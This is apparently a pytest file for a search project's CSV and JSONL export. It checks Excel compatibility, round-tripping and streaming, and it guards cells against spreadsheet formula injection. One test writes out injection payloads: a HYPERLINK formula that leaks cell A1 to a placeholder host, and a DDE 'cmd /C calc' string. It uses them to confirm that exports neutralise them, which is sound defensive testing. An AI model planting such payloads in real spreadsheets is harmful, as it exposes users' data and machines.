from __future__ import annotations

import csv
import io
import json
from typing import TYPE_CHECKING

import msgspec

from renkei_search import resources
from renkei_search.corpus.table import COLUMNS, Row, make_row, unguard_cell
from renkei_search.export.text import stream_csv, stream_records, stream_table
from renkei_search.model.record import Initiative

if TYPE_CHECKING:
    from collections.abc import Iterator

    from renkei_search.corpus.collection import Corpus


def test_a_table_reads_back_as_its_rows(corpus: Corpus) -> None:
    text = b"".join(stream_table(corpus.initiatives, corpus.catalogue)).decode("utf-8-sig")
    headings, *rows = csv.reader(io.StringIO(text, newline=""))
    assert headings == [column.heading for column in COLUMNS]
    assert [Row(*map(unguard_cell, row)) for row in rows] == [
        make_row(found, corpus.catalogue) for found in corpus.initiatives
    ]


def test_a_table_is_what_excel_opens(corpus: Corpus) -> None:
    data = b"".join(stream_table(corpus.initiatives[:1], corpus.catalogue))
    assert data.startswith("\ufeffID,圏域,".encode())
    assert data.endswith(b"\r\n")
    assert data.count(b"\xef\xbb\xbf") == 1


def test_hostile_text_is_no_formula(corpus: Corpus) -> None:
    hostile = msgspec.structs.replace(
        corpus.initiatives[0],
        title='=HYPERLINK("http://x.example/?"&A1,"見る")',
        description="@SUM(1+1)*cmd|' /C calc'!A0",
    )
    text = b"".join(stream_table([hostile], corpus.catalogue)).decode("utf-8-sig")
    row = Row(*list(csv.reader(io.StringIO(text, newline="")))[1])
    assert row.title.startswith("'=")
    assert row.description.startswith("'@")
    assert unguard_cell(row.title) == hostile.title


def test_every_cell_of_a_row_is_guarded() -> None:
    assert b"".join(stream_csv([["-1", "=A1"]])).decode("utf-8-sig") == "'-1,'=A1\r\n"


def test_records_are_those_of_the_corpus_files(corpus: Corpus) -> None:
    lines = b"".join(stream_records(corpus.initiatives)).splitlines()
    files = sorted((resources.corpus_folder() / "initiatives").glob("*.jsonl"))
    expected = [json.loads(line) for file in files for line in file.read_bytes().splitlines()]
    told = [json.loads(line) for line in lines]
    assert [
        {name: value for name, value in record.items() if value not in (None, [])} for record in told
    ] == expected
    assert {tuple(record) for record in told} == {Initiative.__struct_fields__}
    assert tuple(msgspec.json.decode(line, type=Initiative) for line in lines) == corpus.initiatives


def test_the_first_row_does_not_wait_for_the_last(corpus: Corpus) -> None:
    taken = 0

    def initiatives() -> Iterator[Initiative]:
        nonlocal taken
        for initiative in corpus.initiatives:
            taken += 1
            yield initiative

    for stream in (stream_table(initiatives(), corpus.catalogue), stream_records(initiatives())):
        taken = 0
        next(stream)
        assert taken <= 1
